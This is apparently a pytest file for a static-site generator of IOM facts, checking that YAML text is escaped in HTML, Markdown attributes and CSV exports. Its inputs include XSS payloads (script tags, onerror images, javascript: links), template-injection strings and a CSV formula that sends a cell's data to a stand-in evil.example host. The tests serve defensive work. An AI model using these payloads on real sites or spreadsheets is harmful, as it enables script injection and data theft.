"""Text from YAML reaches the reader as text: never markup, never links, never template code."""

import html as html_module
import re

import markdown
import pytest

from conftest import run_cli
from iomfacts.markdown_text import escape_markdown

HOSTILE = [
    "<script>alert('x')</script> and <img src=x onerror=alert(1)>",
    "[click me](javascript:alert(1)) and ![img](http://evil.example/x.png)",
    "**bold** _em_ `code` # not a heading | a | table |",
    "{{ config }} {% for x in y %}{{ x }}{% endfor %} {# comment #}",
    "&lt;already escaped&gt; &amp; 5 > 3 < 4",
    "{: #injected .attr } <div markdown>inside</div>",
    "line one\n\n# heading\n- list",
    "<https://autolink.example> and \\backslash\\ and *[HTML]: abbr",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_escaped_text_renders_as_exactly_that_text(text):
    extensions = ["tables", "attr_list", "md_in_html", "toc", "admonition", "def_list"]
    rendered = markdown.markdown(f"Statement: {escape_markdown(text)}", extensions=extensions)
    assert "<script" not in rendered and "<img" not in rendered and "<a " not in rendered
    assert "<strong>" not in rendered and "<code>" not in rendered and "<em>" not in rendered
    visible = html_module.unescape(re.sub(r"<[^>]+>", "", rendered))
    assert visible == "Statement: " + " ".join(text.split())


def test_hostile_statement_and_note_are_shown_as_text_on_the_built_site(site_copy):
    path = site_copy.content / "facts/2018/p1-standards.yml"
    text = path.read_text()
    text = text.replace(
        "    statement: Seventy-two per cent of IOM offices",
        "    statement: <script>alert(document.domain)</script> [x](javascript:alert(document.domain)) **b** "
        "Seventy-two per cent of IOM offices")
    # Template syntax ({{ }}, {% %}) is refused by check (tests/bad_input/jinja-syntax-in-text.yml,
    # which also shows it printed literally when the rule is bypassed).
    text = text.replace("    tags: [policy]", "    tags: [policy]\n    note: \"<b>note</b> $x$\"")
    path.write_text(text)
    result = run_cli(site_copy.root, "build")
    assert result.returncode == 0, result.stderr
    page = (site_copy.site / "years/2018/p1-standards/index.html").read_text()
    assert "&lt;script&gt;alert(document.domain)&lt;/script&gt;" in page
    assert "<script>alert(document.domain)</script>" not in page
    assert 'href="javascript:' not in page
    assert "[x](javascript:alert(document.domain))" in page
    assert "**b**" in page
    assert "&lt;b&gt;note&lt;/b&gt; $x$" in page


# --- one escaper per channel (iomfacts/escapes.py) -----------------------------------------

def test_csv_cells_a_spreadsheet_would_run_start_with_an_apostrophe():
    from iomfacts.escapes import csv_cell

    for formula in ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]:
        assert csv_cell(formula) == "'" + formula
    assert csv_cell("IOM helped 72,176 migrants") == "IOM helped 72,176 migrants"
    assert csv_cell(-5) == -5 and csv_cell(1.5) == 1.5 and csv_cell(None) is None, "numbers stay numbers"


def test_a_formula_statement_is_neutralised_in_the_csv_and_exact_in_the_json(site_copy):
    import csv
    import io
    import json

    from iomfacts.exports import export_files
    from iomfacts.pipeline import check

    path = site_copy.content / "facts/2018/p1-standards.yml"
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open the source PDF") Seventy-two per cent'
    text = path.read_text()
    line = next(line for line in text.splitlines() if line.startswith("    statement: Seventy-two"))
    path.write_text(text.replace(line, f"    statement: '{formula}" + line.removeprefix("    statement: Seventy-two per cent") + "'"))
    knowledge, problems = check(site_copy)
    assert not problems, [str(p) for p in problems]
    files = export_files(knowledge)
    rows = list(csv.DictReader(io.StringIO(files["data/facts.csv"].decode())))
    [row] = [row for row in rows if row["id"] == "ar-2018-3-legislation-advice"]
    assert row["statement"].startswith("'=HYPERLINK(")
    assert row["source_paragraph"] == "3", "numeric cells are untouched"
    [fact] = [f for f in json.loads(files["data/facts.json"]) if f["id"] == "ar-2018-3-legislation-advice"]
    assert fact["statement"].startswith("=HYPERLINK("), "JSON keeps the exact text"


def test_attributes_written_inside_markdown_cannot_become_links_or_end_the_attribute():
    from iomfacts.escapes import attribute

    rendered = markdown.markdown(f'<a href="{attribute("https://e.example/[a](onmouseover=x)_b_*c*")}">t</a> "q"',
                                 extensions=["attr_list", "md_in_html"])
    [anchor] = re.findall(r"<a [^>]*>", rendered)
    assert anchor.count('"') == 2 and "<em>" not in rendered and "onmouseover=x)" not in rendered.replace("&#", "")
    assert html_module.unescape(re.search(r'href="([^"]*)"', anchor).group(1)) == "https://e.example/[a](onmouseover=x)_b_*c*"


def test_figures_print_with_the_precision_written_in_the_yaml():
    from iomfacts.markdown_text import format_number

    assert format_number(0.0000004) == "0.0000004"
    assert format_number(1605.4) == "1,605.4"
    assert format_number(12673) == "12,673"
    assert format_number(3.0) == "3"
    assert format_number(2964.41) == "2,964.41"
